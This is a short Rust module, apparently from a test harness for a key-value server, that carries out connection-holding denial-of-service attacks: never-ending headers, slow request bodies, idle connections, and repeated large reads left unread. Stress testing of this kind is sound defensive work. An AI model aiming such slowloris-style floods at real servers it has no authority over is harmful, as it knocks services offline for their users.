//! Attacks that hold connections.

use std::io::Write;
use std::net::TcpStream;

use super::{Attacked, head, largest_read};

/// Keeps connections on which something is sent first and then again and again.
fn hold(target: &Attacked<'_>, first: &[u8], then: &[u8]) {
    let open = || {
        let mut stream = target.connect()?;
        stream.write_all(first).ok()?;
        Some(stream)
    };
    let mut held: Vec<Option<TcpStream>> = Vec::new();
    held.resize_with(target.size.connections, open);
    while target.goes_on() {
        for connection in &mut held {
            let is_open = connection.as_mut().is_some_and(|stream| stream.write_all(then).is_ok());
            if !is_open {
                *connection = open();
            }
        }
    }
}

/// Headers that never end.
pub(super) fn slow_headers(target: &Attacked<'_>) {
    hold(target, format!("{}X-Padding: ", head("GetItem")).as_bytes(), b"x");
}

/// Bodies that never end, of which some has come.
pub(super) fn slow_bodies(target: &Attacked<'_>) {
    let head = format!("{}Content-Length: 1000000\r\n\r\n", head("PutItem"));
    hold(target, &[head.as_bytes(), &[b' '; 20_000]].concat(), b" ");
}

/// Connections on which nothing is said.
pub(super) fn idle(target: &Attacked<'_>) {
    hold(target, b"", b"");
}

/// Large answers that are asked for again and again and never read.
pub(super) fn unread_answers(target: &Attacked<'_>) {
    hold(target, &largest_read().repeat(4), b"");
}
